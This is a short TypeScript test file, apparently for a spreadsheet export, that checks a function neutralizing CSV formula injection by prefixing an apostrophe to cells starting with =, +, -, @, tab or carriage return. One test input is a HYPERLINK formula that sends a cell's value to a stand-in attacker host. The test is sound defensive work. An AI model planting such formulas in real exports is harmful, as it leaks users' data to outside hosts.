import { describe, expect, it } from 'vitest';
import { neutralizeCsvCell } from './csv.ts';

describe('neutralizeCsvCell', () => {
  it('puts an apostrophe before a text cell that a spreadsheet would run as a formula', () => {
    expect(neutralizeCsvCell('=HYPERLINK("http://evil.example/?"&B2,"Open")')).toBe(
      `'=HYPERLINK("http://evil.example/?"&B2,"Open")`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutralizeCsvCell(`${start}1+2`)).toBe(`'${start}1+2`);
    }
  });

  it('leaves other text, numbers (negative ones too) and empty cells as they are', () => {
    expect(neutralizeCsvCell('Drill pipe 5" - grade S')).toBe('Drill pipe 5" - grade S');
    expect(neutralizeCsvCell("'quoted")).toBe("'quoted");
    expect(neutralizeCsvCell(-5)).toBe(-5);
    expect(neutralizeCsvCell(0)).toBe(0);
    expect(neutralizeCsvCell(null)).toBeNull();
    expect(neutralizeCsvCell('')).toBe('');
  });
});
